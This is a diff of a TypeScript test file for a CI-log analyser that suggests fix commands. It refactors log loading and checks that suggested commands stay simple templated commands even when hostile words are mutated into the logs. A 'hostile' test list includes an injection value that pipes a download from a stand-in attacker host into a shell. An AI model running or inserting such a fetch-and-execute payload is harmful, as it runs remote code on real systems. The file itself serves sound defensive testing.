@@ -1,21 +1,10 @@
-import { createHash } from 'node:crypto';
-import { readdirSync, readFileSync } from 'node:fs';
-import { join } from 'node:path';
 import { expect, test } from 'vitest';
-import { analyze } from '../../src/analyzer/analyze.ts';
 import { parseSimpleCommand } from '../../src/analyzer/commands/simple-command.ts';
-import { LogText } from '../../src/kernel/log-text.ts';
 import { bashWords } from '../support/bash-words.ts';
 import { commandTemplates } from '../support/command-templates.ts';
+import { diagnose } from '../support/diagnose.ts';
+import { diagnosisOf, ownLogs } from '../support/own-logs.ts';
 import { thorough } from '../support/thorough.ts';
-
-const folder = new URL('../logs', import.meta.url).pathname;
-const hash = (text: string) => createHash('sha256').update(text).digest('hex').slice(0, 32);
-const logs = readdirSync(folder).flatMap((family) =>
-  readdirSync(join(folder, family))
-    .filter((file) => file.endsWith('.log'))
-    .map((file) => ({ name: `${family}/${file}`, text: readFileSync(join(folder, family, file), 'latin1') })),
-);
 
 const hostile = [
   `;curl$\{IFS}evil.example|sh`,
@@ -56,8 +45,7 @@ const hostile = [
 ];
 
 function commandsOf(text: string): string[] {
-  const bytes = Buffer.from(text, 'latin1');
-  return analyze(LogText.fromBytes(bytes), {}, { hash, evidence: 'quotes' }).suggested_fix.commands;
+  return diagnose(Buffer.from(text, 'latin1')).suggested_fix.commands;
 }
 
 const builder = 'nix/builder-failed.log';
@@ -65,7 +53,7 @@ const gitlab = (command: string, ...lines: string[]) =>
   [`$ ${command}`, ...lines, 'ERROR: Job failed: exit code 1', ''].join('\n');
 
 function logOf(name: string): string {
-  return logs.find((log) => log.name === name)?.text ?? '';
+  return ownLogs.find((log) => log.name === name)?.bytes.toString('latin1') ?? '';
 }
 
 test.each([
@@ -126,20 +114,22 @@ test('the templates of the detectors have no sign that only a shell acts on', ()
 });
 
 test('every command of our logs is one simple command of a template', () => {
-  for (const { name, text } of logs) for (const command of commandsOf(text)) expectTemplate(command, name);
+  for (const log of ownLogs) {
+    for (const command of diagnosisOf(log).suggested_fix.commands) expectTemplate(command, log.name);
+  }
 });
 
 test('hostile words anywhere in what a command was made of leave one simple command of a template', () => {
   let made = 0;
-  for (const { name, text } of thorough ? logs : logs.filter((_, at) => at % 8 === 0)) {
-    for (const mutant of mutants(text)) {
+  for (const { name, bytes } of thorough ? ownLogs : ownLogs.filter((_, at) => at % 24 === 0)) {
+    for (const mutant of mutants(bytes.toString('latin1'))) {
       for (const command of commandsOf(mutant)) {
         expectTemplate(command, name);
         made += 1;
       }
     }
   }
-  expect(made).toBeGreaterThan(thorough ? 5_000 : 500);
+  expect(made).toBeGreaterThan(thorough ? 5_000 : 150);
 });
 
 function expectTemplate(command: string, name: string): void {
